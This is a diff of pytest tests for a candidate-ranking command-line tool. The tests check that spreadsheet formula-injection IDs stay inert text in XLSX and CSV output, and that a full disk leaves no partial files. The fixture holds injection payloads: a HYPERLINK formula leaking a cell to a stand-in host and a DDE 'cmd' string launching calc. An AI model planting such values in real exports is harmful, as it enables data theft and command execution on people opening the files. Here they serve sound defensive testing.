@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pandas as pd
@@ -175,3 +176,68 @@ def test_unreadable_input_exits_2(tmp_path: Path) -> None:
     )  # fmt: skip
     assert code == 2
     assert "unknown file type .txt" in err
+
+
+FORMULA_IDS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
+
+
+@pytest.fixture(scope="module")
+def formula_file(
+    registered_model: RegisteredModel, tmp_path_factory: pytest.TempPathFactory
+) -> Path:
+    frame = registered_model.candidates.head(30).copy()
+    frame["digital_status"] = "offline"
+    frame.loc[frame.index[:4], "msme_id"] = FORMULA_IDS
+    return write_table(frame, tmp_path_factory.mktemp("formulas") / "candidates.xlsx")
+
+
+def test_formula_ids_stay_text_in_xlsx_and_csv_lists(
+    registered_model: RegisteredModel, formula_file: Path, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    common = ["--data", str(formula_file), "--capacity", "10", "--model"]
+    code, _, err = run(*common, registered_model.model_uri, "--output", str(tmp_path / "l.xlsx"))
+    assert code == 0, err
+    book = load_workbook(tmp_path / "l.xlsx")
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert {cell.data_type for cell in cells if cell.value in FORMULA_IDS} == {"s"}
+    assert sum(cell.value in FORMULA_IDS for cell in cells) == 4
+    assert not [cell for cell in cells if cell.data_type == "f"]
+
+    code, _, err = run(*common, registered_model.model_uri, "--output", str(tmp_path / "l.csv"))
+    assert code == 0, err
+    text = (tmp_path / "l.csv").read_text() + (tmp_path / "l_not_selected.csv").read_text()
+    for value in ("'=HYPERLINK", "'=cmd", "'+1", "'@SUM"):
+        assert value in text
+
+
+def test_a_full_disk_leaves_neither_list_nor_left_outs(
+    registered_model: RegisteredModel,
+    formula_file: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import errno
+
+    written = pd.DataFrame.to_csv
+    calls = []
+
+    def second_fills_the_disk(self: pd.DataFrame, path: Any = None, **options: Any) -> Any:
+        calls.append(path)
+        if len(calls) == 2:  # the list is complete; the not-selected file runs out of space
+            Path(path).write_text("msme_id,reason\nC1,bel")
+            raise OSError(errno.ENOSPC, "No space left on device", str(path))
+        return written(self, path, **options)
+
+    monkeypatch.setattr(pd.DataFrame, "to_csv", second_fills_the_disk)
+    output = tmp_path / "out" / "list.csv"
+
+    code, _, err = run(
+        "--data", str(formula_file), "--capacity", "10",
+        "--model", registered_model.model_uri, "--output", str(output),
+    )  # fmt: skip
+
+    assert code == 2
+    assert err.count("\n") == 1 and "no space left on the device" in err
+    assert list(output.parent.iterdir()) == []
